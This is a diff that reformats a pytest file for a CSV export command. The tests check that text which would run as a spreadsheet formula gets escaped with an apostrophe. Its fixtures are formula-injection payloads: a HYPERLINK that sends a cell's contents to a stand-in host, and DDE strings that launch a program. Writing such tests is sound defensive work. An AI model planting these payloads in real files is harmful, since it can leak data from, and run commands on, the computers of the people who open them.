@@ -1,5 +1,6 @@
 """`python -m lib export` as a spreadsheet user opens its file: follow-ups whose text would run as a formula are
 written with a leading apostrophe (as the dashboard's downloads); `--raw` writes them as stored, for programs."""
+
 from __future__ import annotations
 
 import csv
@@ -10,17 +11,28 @@ import pytest
 
 from lib import cli, store
 
-FORMULAS = ['=HYPERLINK("http://contoh.invalid/?d="&A1,"klik")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
-            "-2+3"]
+FORMULAS = [
+    '=HYPERLINK("http://contoh.invalid/?d="&A1,"klik")',
+    "+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "-2+3",
+]
 
 
 @pytest.fixture
 def follow_ups(db):
-    rows = pd.DataFrame({
-        "rapat": "Rakor I", "tanggal_rapat": dt.date(2025, 6, 12), "kode_wilayah": "74.71",
-        "uraian": FORMULAS, "penanggung_jawab": ["=1+1", "Operator", "Operator", "Operator"],
-        "tenggat": dt.date(2025, 6, 30), "status": "Belum", "catatan": ["Kirim data", "", "@catatan", "\t=1"],
-    })
+    rows = pd.DataFrame(
+        {
+            "rapat": "Rakor I",
+            "tanggal_rapat": dt.date(2025, 6, 12),
+            "kode_wilayah": "74.71",
+            "uraian": FORMULAS,
+            "penanggung_jawab": ["=1+1", "Operator", "Operator", "Operator"],
+            "tenggat": dt.date(2025, 6, 30),
+            "status": "Belum",
+            "catatan": ["Kirim data", "", "@catatan", "\t=1"],
+        }
+    )
     store.save_batch("tindak_lanjut", rows, "uji")
     return db
 
